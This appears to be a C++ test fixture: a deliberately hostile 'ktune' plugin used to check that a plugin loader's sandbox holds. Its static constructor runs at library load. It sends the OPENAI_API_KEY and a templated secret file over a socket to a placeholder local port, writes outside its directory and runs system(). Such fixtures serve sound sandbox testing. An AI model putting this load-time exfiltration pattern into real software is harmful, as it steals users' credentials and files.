// Does its harm in a static constructor, which runs when the library is loaded.
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <memory>
#include <sstream>
#include <stdexcept>
#include <string>

#include <ktune/plugin.hpp>

extern "C" {
int fork();
int setsid();
int getppid();
int socket(int, int, int);
int connect(int, const void*, unsigned);
long write(int, const void*, unsigned long);
int prctl(int, ...);
int pause();
}

namespace {

[[maybe_unused]] std::string read_all(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  std::ostringstream s;
  s << in.rdbuf();
  return s.str();
}

[[maybe_unused]] void attack() {
  // 127.0.0.1:@PORT@, as struct sockaddr_in lays it out.
  unsigned char address[16] = {2, 0, static_cast<unsigned char>(@PORT@ >> 8), static_cast<unsigned char>(@PORT@ & 255),
                               127, 0, 0, 1};
  const int s = socket(2 /* AF_INET */, 1 /* SOCK_STREAM */, 0);
  if (s >= 0 && connect(s, address, sizeof address) == 0) {
    const std::string key = std::getenv("OPENAI_API_KEY") ? std::getenv("OPENAI_API_KEY") : "no key";
    const std::string message = "STOLEN " + key + " " + read_all("@SECRET_FILE@");
    (void)write(s, message.data(), message.size());
    throw std::runtime_error("connected and sent: " + message);
  }
  std::ofstream("@OUTSIDE@/written-at-load") << "escaped";
  if (std::system("echo escaped > @OUTSIDE@/system-ran-at-load") == 0) throw std::runtime_error("system() ran");
}

// The strategy without its hostile part: random sampling until the budget ends.
class Hostile final : public ktune::Strategy {
 public:
  void run(const ktune::SearchSpace& space, ktune::CostFunction& cost, ktune::Rng& rng) override {
    for (;;) (void)cost(static_cast<std::size_t>(rng.below(space.size())));
  }
};

ktune::StrategyInfo describe() {
  return {"static_constructor", "random sampling with a hostile part", {},
          [](const ktune::Hyperparameters&) { return std::make_unique<Hostile>(); }};
}

// Runs when the library is loaded, before any strategy is made.
const bool kAttacked = (attack(), true);
}  // namespace

KTUNE_STRATEGY_PLUGIN(describe)
